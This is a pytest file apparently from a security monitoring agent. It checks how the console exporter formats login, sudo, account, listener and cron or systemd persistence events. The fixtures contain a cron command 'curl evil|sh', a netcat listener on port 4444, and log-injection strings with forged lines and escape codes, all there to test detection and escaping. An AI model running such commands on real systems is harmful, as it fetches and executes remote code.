"""The lines about logins, privilege, accounts, open ports and what starts by itself."""

from __future__ import annotations

import fnmatch
import logging
import os
import re
from pathlib import Path
from typing import Any

import pytest

from otel_fim import names
from otel_fim.component import ExporterContext
from otel_fim.exporters.console import ConsoleConfig, ConsoleExporter
from otel_fim.exporters.console.line import coloured, format_record
from otel_fim.names import events
from otel_fim.names.registry import EVENTS
from otel_fim.record import EMPTY_SCOPE, Record, Resource, Severity

WHEN = 1768314735_123456789  # 2026-01-13T14:32:15.123456789Z
AT = "@ 2026-01-13T14:32:15Z"
FROM = {
    names.USER_NAME: "alice",
    names.SOURCE_ADDRESS: "203.0.113.7",
    names.SOURCE_PORT: 51234,
    names.OTEL_FIM_AUTH_METHOD: "password",
    names.OTEL_FIM_AUTH_SERVICE: "sshd",
    names.PROCESS_PID: 812,
}
VI = {
    names.USER_NAME: "root",
    names.OTEL_FIM_LOGIN_USER_NAME: "alice",
    names.PROCESS_EXECUTABLE_PATH: "/usr/bin/vi",
    names.PROCESS_PID: 4711,
}
SUDO = {
    names.USER_NAME: "alice",
    names.USER_EFFECTIVE_NAME: "root",
    names.OTEL_FIM_AUTH_SERVICE: "sudo",
    names.PROCESS_COMMAND_LINE: "/bin/ls",
    names.EVENT_OUTCOME: "success",
}
CRON = {
    names.OTEL_FIM_PERSISTENCE_KIND: "cron",
    names.OTEL_FIM_PERSISTENCE_ID: "/etc/cron.d/x:3",
    names.THREAT_TECHNIQUE_ID: ["T1053"],
    names.THREAT_TECHNIQUE_SUBTECHNIQUE_ID: ["T1053.003"],
}
TRIGGER, COMMAND = names.OTEL_FIM_PERSISTENCE_TRIGGER, names.OTEL_FIM_PERSISTENCE_COMMAND
NC = {
    names.NETWORK_TRANSPORT: "tcp",
    names.NETWORK_LOCAL_ADDRESS: "0.0.0.0",
    names.NETWORK_LOCAL_PORT: 4444,
    names.OTEL_FIM_LISTENER_EXPOSURE: "any",
    names.USER_NAME: "mallory",
    names.PROCESS_EXECUTABLE_PATH: "/usr/bin/nc",
    names.PROCESS_PID: 4711,
}

GOLDEN: list[tuple[str, dict[str, Any], str]] = [
    (
        events.AUTH_LOGIN,
        {**FROM, names.EVENT_OUTCOME: "failure", names.OTEL_FIM_AUTH_REASON: "wrong_credentials"},
        f"[LOGIN] FAILED alice from 203.0.113.7 port 51234 by password via sshd {AT}: wrong_credentials",
    ),
    (
        events.AUTH_LOGIN,
        {
            **FROM,
            names.EVENT_OUTCOME: "failure",
            names.OTEL_FIM_AUTH_USER_KNOWN: False,
            names.OTEL_FIM_AUTH_COUNT: 3,
            names.THREAT_TECHNIQUE_ID: ["T1110"],
        },
        (
            f"[LOGIN] FAILED alice from 203.0.113.7 port 51234 by password via sshd {AT} (MITRE T1110): "
            "no such user, 3 times"
        ),
    ),
    (
        events.AUTH_LOGIN,
        {
            **FROM,
            names.EVENT_OUTCOME: "success",
            names.OTEL_FIM_AUTH_METHOD: "publickey",
            names.OTEL_FIM_AUTH_TERMINAL: "pts/0",
            names.OTEL_FIM_LOGIN_SESSION_ID: 3,
        },
        f"[LOGIN] SUCCEEDED alice from 203.0.113.7 port 51234 by publickey via sshd on pts/0 {AT} session 3",
    ),
    (
        events.AUTH_LOGIN,
        {names.EVENT_OUTCOME: "success", names.OTEL_FIM_AUTH_SERVICE: "login", names.USER_ID: "1000"},
        f"[LOGIN] SUCCEEDED uid 1000 via login {AT}",
    ),
    (
        events.AUTH_LOGIN,
        {
            **FROM,
            names.EVENT_OUTCOME: "failure",
            names.USER_NAME: "root from 198.51.100.1\n[LOGIN] SUCCEEDED root",
            names.SOURCE_ADDRESS: "\x1b[2Jhost name",
        },
        (
            '[LOGIN] FAILED "root from 198.51.100.1\\n[LOGIN] SUCCEEDED root" from "\\x1b[2Jhost name" port 51234 '
            f"by password via sshd {AT}"
        ),
    ),
    (events.AUTH_LOGIN, {}, f"[LOGIN] UNKNOWN somebody {AT}"),
    (
        events.AUTH_LOGOUT,
        {names.USER_NAME: "alice", names.SOURCE_ADDRESS: "2001:db8::7", names.EVENT_DURATION: 93_000_000_000},
        f"[LOGOUT] alice from 2001:db8::7 {AT} after 1m33s",
    ),
    (
        events.AUTH_LOGOUT,
        {names.USER_NAME: "alice", names.EVENT_DURATION: 7_384_000_000_000},
        f"[LOGOUT] alice {AT} after 2h03m04s",
    ),
    (events.AUTH_PRIVILEGE, SUDO, f"[PRIVILEGE] alice -> root sudo {AT}: /bin/ls"),
    (
        events.AUTH_PRIVILEGE,
        {**SUDO, names.EVENT_OUTCOME: "failure", names.OTEL_FIM_AUTH_REASON: "not_allowed"},
        f"[PRIVILEGE] alice -> root sudo {AT}: /bin/ls (refused: not_allowed)",
    ),
    (
        events.AUTH_PRIVILEGE,
        {
            **SUDO,
            names.USER_NAME: "root",
            names.OTEL_FIM_LOGIN_USER_NAME: "alice",
            names.OTEL_FIM_AUTH_TERMINAL: "pts/0",
            names.PROCESS_COMMAND_LINE: "/bin/ls (refused: not_allowed)",
            names.THREAT_TECHNIQUE_ID: ["T1548"],
            names.THREAT_TECHNIQUE_SUBTECHNIQUE_ID: ["T1548.003"],
        },
        (
            f"[PRIVILEGE] root -> root (login alice) sudo on pts/0 {AT} (MITRE T1548.003): "
            '"/bin/ls (refused: not_allowed)"'
        ),
    ),
    (
        events.AUTH_PRIVILEGE,
        {names.EVENT_ACTION: "su", names.EVENT_OUTCOME: "failure", names.USER_EFFECTIVE_ID: "0"},
        f"[PRIVILEGE] somebody -> uid 0 su {AT}: (refused)",
    ),
    (
        events.AUTH_ACCOUNT,
        {
            names.EVENT_ACTION: "user_created",
            names.USER_TARGET_NAME: "mallory",
            names.OTEL_FIM_AUTH_SERVICE: "useradd",
            names.OTEL_FIM_LOGIN_USER_NAME: "alice",
            names.USER_NAME: "root",
        },
        f"[ACCOUNT] USER CREATED mallory {AT} by root (login alice) via useradd",
    ),
    (
        events.AUTH_ACCOUNT,
        {
            names.EVENT_ACTION: "group_member_added",
            names.USER_TARGET_NAME: "mallory",
            names.GROUP_NAME: "sudo",
            names.THREAT_TECHNIQUE_ID: ["T1098"],
            names.THREAT_TECHNIQUE_SUBTECHNIQUE_ID: ["T1098.007"],
        },
        f"[ACCOUNT] GROUP MEMBER ADDED mallory in group sudo {AT} (MITRE T1098.007)",
    ),
    (
        events.AUTH_ACCOUNT,
        {
            names.EVENT_ACTION: "user_created",
            names.USER_TARGET_NAME: "mallory",
            names.USER_TARGET_ID: "1003",
            names.GROUP_ID: "1003",
        },
        f"[ACCOUNT] USER CREATED mallory gid 1003 {AT}",
    ),
    (
        events.AUTH_ACCOUNT,
        {names.EVENT_ACTION: "group_deleted", names.GROUP_ID: "1003"},
        f"[ACCOUNT] GROUP DELETED gid 1003 {AT}",
    ),
    (
        events.AUTH_ACCOUNT,
        {names.EVENT_ACTION: "group_created", names.GROUP_NAME: "staff", names.EVENT_OUTCOME: "failure"},
        f"[ACCOUNT] GROUP CREATED staff {AT}: failed",
    ),
    (
        events.LISTENER_OPENED,
        NC,
        f"[LISTENER] OPENED tcp 0.0.0.0:4444 {AT} by mallory /usr/bin/nc pid 4711: open to every address",
    ),
    (
        events.LISTENER_CLOSED,
        {
            names.NETWORK_TRANSPORT: "udp",
            names.NETWORK_LOCAL_ADDRESS: "::1",
            names.NETWORK_LOCAL_PORT: 53,
            names.OTEL_FIM_LISTENER_EXPOSURE: "loopback",
            names.OTEL_FIM_SYSTEMD_UNIT: "dns.service",
            names.OTEL_FIM_LISTENER_WHILE_DOWN: True,
        },
        f"[LISTENER] CLOSED udp [::1]:53 {AT} while the agent was down: open to this host only, unit dns.service",
    ),
    (
        events.PERSISTENCE_ADDED,
        {**CRON, **VI, TRIGGER: "17 * * * *", COMMAND: "/bin/x", names.OTEL_FIM_PERSISTENCE_USER: "root"},
        (
            f"[PERSISTENCE] ADDED cron /etc/cron.d/x:3 {AT} (MITRE T1053.003) "
            'by root (login alice) /usr/bin/vi pid 4711: "17 * * * *", as root, /bin/x'
        ),
    ),
    (
        events.PERSISTENCE_CHANGED,
        {
            **CRON,
            names.OTEL_FIM_PERSISTENCE_CHANGED_ATTRIBUTES: [COMMAND, names.OTEL_FIM_PERSISTENCE_HASH],
            COMMAND: "curl evil|sh",
            names.before(COMMAND): "/bin/x",
        },
        (f'[PERSISTENCE] CHANGED cron /etc/cron.d/x:3 {AT} (MITRE T1053.003): command /bin/x→"curl evil|sh"'),
    ),
    (
        events.PERSISTENCE_CHANGED,
        {**CRON, names.OTEL_FIM_PERSISTENCE_CHANGED_ATTRIBUTES: [names.OTEL_FIM_PERSISTENCE_HASH]},
        f"[PERSISTENCE] CHANGED cron /etc/cron.d/x:3 {AT} (MITRE T1053.003): content",
    ),
    (
        events.PERSISTENCE_REMOVED,
        {
            names.OTEL_FIM_PERSISTENCE_KIND: "systemd_service",
            names.OTEL_FIM_PERSISTENCE_ID: "/etc/systemd/system/x.service",
            names.before(COMMAND): "/bin/x",
            names.before(names.OTEL_FIM_PERSISTENCE_ENABLED): False,
            names.OTEL_FIM_PERSISTENCE_WHILE_DOWN: True,
        },
        (
            f"[PERSISTENCE] REMOVED systemd_service /etc/systemd/system/x.service {AT} while the agent was down: "
            "/bin/x, switched off"
        ),
    ),
    (
        events.PERSISTENCE_ADDED,
        {names.OTEL_FIM_PERSISTENCE_ID: "/x", COMMAND: "a\n\u202e" + "b" * 300},
        f"[PERSISTENCE] ADDED /x {AT}: a\\n\\u202e" + "b" * 196 + "…",
    ),
    (events.PERSISTENCE_ADDED, {}, f"[EVENT] otel_fim.persistence.added {AT}"),
    (events.LISTENER_OPENED, {}, f"[EVENT] otel_fim.listener.opened {AT}"),
]


@pytest.mark.parametrize(("event", "attributes", "expected"), GOLDEN)
def test_the_line(event: str, attributes: dict[str, Any], expected: str) -> None:
    record = Record(time_unix_nano=WHEN, event_name=event, attributes=attributes)
    assert format_record(record) == expected


@pytest.mark.parametrize(("event", "attributes", "expected"), GOLDEN)
def test_colour_surrounds_the_first_words_only(event: str, attributes: dict[str, Any], expected: str) -> None:
    record = Record(WHEN, 0, event, int(Severity.WARN), attributes=attributes)
    shown = format_record(record, coloured)
    assert re.fullmatch(r"\x1b\[1;33m\[[A-Z]+\][^\x1b]*\x1b\[0m( .*)?", shown)
    assert re.sub(r"\x1b\[[0-9;]*m", "", shown) == expected


def test_by_default_people_are_shown_what_concerns_them() -> None:
    shown = {
        name
        for name in EVENTS
        if any(fnmatch.fnmatchcase(name, pattern) for pattern in ConsoleConfig().events)
    }
    families = {"file", "auth", "listener", "persistence", "coverage", "finding"}
    assert shown == {name for name in EVENTS if name.split(".")[1] in families}


@pytest.mark.parametrize(("inventory", "count"), [(False, 1), (True, 2)])
def test_what_was_there_already_is_shown_on_demand(inventory: bool, count: int, tmp_path: Path) -> None:
    read, write = os.pipe()
    try:
        context = ExporterContext(
            id="console",
            kind="exporter",
            state_directory=tmp_path,
            service_directory=tmp_path,
            agent_directories=(),
            resource=Resource(),
            scope=EMPTY_SCOPE,
            logger=logging.getLogger("test"),
            report=lambda health, message: None,
            count=lambda *args, **kwargs: None,
            pipeline="logs",
        )
        exporter = ConsoleExporter(ConsoleConfig(inventory=inventory), context, descriptor=write)
        exporter.start()

        class OneBatch:
            lines = ()
            record_count = 2
            records = (
                Record(WHEN, 0, events.LISTENER_OPENED, attributes={**NC, names.EVENT_ACTION: "scan"}),
                Record(WHEN, 0, events.LISTENER_OPENED, attributes={**NC, names.EVENT_ACTION: "opened"}),
            )

        exporter.export(OneBatch())
        exporter.stop(1)
        assert os.read(read, 65536).count(b"[LISTENER] OPENED") == count
    finally:
        os.close(read)
        os.close(write)
